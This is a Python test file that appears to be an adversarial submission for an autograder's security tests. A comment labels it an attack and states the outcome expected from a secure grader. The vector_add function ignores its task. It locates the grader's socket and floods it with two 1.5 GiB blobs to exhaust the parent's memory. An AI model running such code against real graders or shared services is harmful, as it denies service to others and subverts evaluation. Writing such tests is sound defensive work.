# ATTACK (abort): floods the grader with reply bytes far above --memory-limit: a valid header, then two
# array blobs of 1.5 GiB each (each under the wire's 2 GiB cap per message), streamed straight to the
# socket from one small buffer, so the worker itself stays small. Today's parent buffers every byte (and
# copies each blob once more), some 4.5 GB of its own memory.
# A secure grader: stops reading past the memory limit, `autograder grade` exits 0, this submission is in
# grades.csv with 0 points, and the grading process's own memory stays bounded.
import os
import stat
import struct

BLOB = 3 << 29  # 1.5 GiB
CHUNK = bytes(16 << 20)


def _socket_fd():
    for name in sorted(os.listdir("/proc/self/fd"), key=lambda s: int(s) if s.isdigit() else 0):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
        except (OSError, ValueError):
            continue
    return None


def _write_all(fd, data) -> None:
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def vector_add(a, b, out):
    fd = _socket_fd()
    header = b'{"kind": "run", "ok": true, "results": []}'
    try:
        _write_all(fd, struct.pack("<Q", len(header)) + header + struct.pack("<Q", 4) + struct.pack("<I", 2))
        for _ in range(2):
            _write_all(fd, struct.pack("<Q", BLOB))
            for _ in range(BLOB // len(CHUNK)):
                _write_all(fd, CHUNK)
    except OSError as exc:  # the grader stopped reading: good for it
        print(f"ATTACK reply_flood: the grader closed the socket ({exc})", flush=True)
    os._exit(0)
